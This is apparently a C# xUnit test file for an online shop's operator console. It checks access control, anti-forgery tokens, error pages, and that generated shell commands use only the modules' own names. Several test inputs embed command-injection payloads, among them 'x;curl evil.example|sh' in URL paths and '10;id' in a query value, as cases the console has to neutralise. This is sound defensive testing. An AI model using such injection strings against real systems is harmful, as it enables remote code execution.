using System.Net;
using Microsoft.AspNetCore.Http.Metadata;
using Microsoft.AspNetCore.Routing;
using Microsoft.Extensions.DependencyInjection;

namespace Modules.Tests.Console;

[Collection(ConsoleCollection.Name)]
public sealed class ConsoleAccessTests(ConsoleShop shop)
{
    [Fact]
    public async Task A_customer_gets_403_and_a_stranger_the_log_in_at_every_page_and_handler()
    {
        using var customer = ConsoleShop.Browser(shop.Customer());
        using var stranger = ConsoleShop.Browser(shop.Anonymous());
        var endpoints = Endpoints().ToList();
        endpoints.Count.ShouldBeGreaterThan(30);
        foreach (var (method, address) in endpoints)
        {
            (await AnswerAsync(customer, method, address)).StatusCode.ShouldBe(HttpStatusCode.Forbidden, $"{method} {address}");
            using var answer = await AnswerAsync(stranger, method, address);
            answer.StatusCode.ShouldBe(HttpStatusCode.SeeOther, $"{method} {address}");
            answer.Headers.Location!.ToString().ShouldStartWith("/login?return=");
        }
    }

    [Theory]
    [InlineData("/api/v1/moves")]
    [InlineData("/api/v1/moves/catalog")]
    [InlineData("/api/v1/moves/catalog/plan")]
    [InlineData("/api/v1/routes")]
    [InlineData("/api/v1/messages")]
    [InlineData("/api/v1/ownership")]
    [InlineData("/api/v1/ordering/orders/all")]
    public async Task What_the_console_asks_is_the_operators_alone(string address)
    {
        await shop.Customer().GetAsync(new Uri(address, UriKind.Relative)).ShouldFailAsync(403, "request.forbidden");
        await shop.Anonymous().GetAsync(new Uri(address, UriKind.Relative)).ShouldFailAsync(401, "request.unauthenticated");
    }

    [Theory]
    [InlineData("none")]
    [InlineData("0af7651916cd43dd8448eb211c80319")]
    [InlineData("a%2Fb")]
    [InlineData("50%25")]
    public async Task What_is_no_id_of_a_trace_is_said_beside_the_field(string typed)
    {
        var html = await ConsoleShop.SeeAsync(shop.Looking(), $"/console/messages/journeys?trace={typed}", 400);
        html.ShouldContain($"value=\"{Uri.UnescapeDataString(typed)}\" aria-invalid=\"true\"");
        html.ShouldContain("class=\"wrong\" id=\"trace-said\"");
    }

    [Fact]
    public async Task A_form_without_its_token_is_refused_everywhere()
    {
        using var browser = shop.Looking();
        foreach (var (method, address) in Endpoints().Where(e => e.Method == "POST"))
        {
            using var answer = await AnswerAsync(browser, method, address);
            answer.StatusCode.ShouldBe(HttpStatusCode.BadRequest, address);
            (await answer.Content.ReadAsStringAsync()).ShouldContain("not good any more", customMessage: address);
        }
    }

    [Theory]
    [InlineData("/console", "The shop at a glance")]
    [InlineData("/console/routes", "Catalog")]
    [InlineData("/console/routes/history", "History of the routing")]
    [InlineData("/console/routes/Catalog.GetProduct", "Switch")]
    [InlineData("/console/routes/Catalog.ChangePrice", "goes to the owner of the data")]
    [InlineData("/console/routes/home", "everything is home already")]
    [InlineData("/console/moves", "Catalog")]
    [InlineData("/console/moves/payments", "is not configured")]
    [InlineData("/console/messages", "To deliver")]
    [InlineData("/console/messages/ordering", "There are none")]
    [InlineData("/console/messages/journeys/0123456789abcdef0123456789abcdef", "No table knows")]
    [InlineData("/console/orders", "Orders")]
    [InlineData("/console/orders?status=rejected", "No order is rejected now")]
    public async Task An_operator_sees_every_page_and_empty_ones_say_what_to_do(string address, string said) =>
        (await ConsoleShop.SeeAsync(shop.Looking(), address)).ShouldContain(said);

    [Theory]
    [InlineData("/console/routes/Catalog.Nothing", 404)]
    [InlineData("/console/moves/nothing", 404)]
    [InlineData("/console/messages/nothing", 404)]
    [InlineData("/console/messages/shipping/letters/00000000-0000-0000-0000-000000000001", 404)]
    [InlineData("/console/messages/journeys/NONSENSE", 400)]
    [InlineData("/console/orders/00000000-0000-0000-0000-000000000001", 404)]
    [InlineData("/console/orders?status=nonsense", 400)]
    [InlineData("/console/moves/catalog/commands/nonsense", 404)]
    public async Task What_is_not_there_is_said_on_a_page(string address, int status) => (await ConsoleShop.SeeAsync(shop.Looking(), address, status)).ShouldContain("<h1");

    [Theory]
    [InlineData("/console/messages/x;curl%20evil.example|sh/retry?cause=a&type=b")]
    [InlineData("/console/moves/x;curl%20evil.example|sh/pace/pause")]
    [InlineData("/console/moves/x;curl%20evil.example|sh/create")]
    [InlineData("/console/moves/x;curl%20evil.example|sh/commands/cancel")]
    public async Task An_address_puts_nothing_of_its_own_into_a_command(string address) =>
        (await ConsoleShop.SeeAsync(shop.Looking(), address, 404)).ShouldNotContain("data-command");

    [Theory]
    [InlineData("/console/messages/SHIPPING/retry?cause=a&type=b", "./shop messages retry Shipping --cause a --type b")]
    [InlineData("/console/moves/CATALOG/pace/throttle?rows=10%3Bid", "./shop move throttle catalog --rows-per-second &quot;10;id&quot;")]
    public async Task A_command_has_the_modules_own_name(string address, string command) => (await ConsoleShop.SeeAsync(shop.Looking(), address)).ShouldContain(command);

    private IEnumerable<(string Method, string Address)> Endpoints() => shop.Services.GetRequiredService<EndpointDataSource>().Endpoints.OfType<RouteEndpoint>()
        .Where(e => e.Metadata.GetMetadata<IEndpointNameMetadata>()?.EndpointName.StartsWith("Console.", StringComparison.Ordinal) == true)
        .Select(e => (e.Metadata.GetRequiredMetadata<IHttpMethodMetadata>().HttpMethods[0], Fill("/" + e.RoutePattern.RawText!.Trim('/'))));

    private static string Fill(string template) => template
        .Replace("{endpoint}", "Catalog.GetProduct", StringComparison.Ordinal).Replace("{module}", "catalog", StringComparison.Ordinal).Replace("{word}", "pause", StringComparison.Ordinal)
        .Replace("{id:guid}", "00000000-0000-0000-0000-000000000001", StringComparison.Ordinal).Replace("{traceId}", "0123456789abcdef0123456789abcdef", StringComparison.Ordinal);

    private static async Task<HttpResponseMessage> AnswerAsync(HttpClient client, string method, string address)
    {
        using var request = new HttpRequestMessage(new HttpMethod(method), new Uri(address, UriKind.Relative));
        if (method == "POST")
        {
            request.Content = new FormUrlEncodedContent([KeyValuePair.Create("reason", "a test")]);
        }

        return await client.SendAsync(request);
    }
}
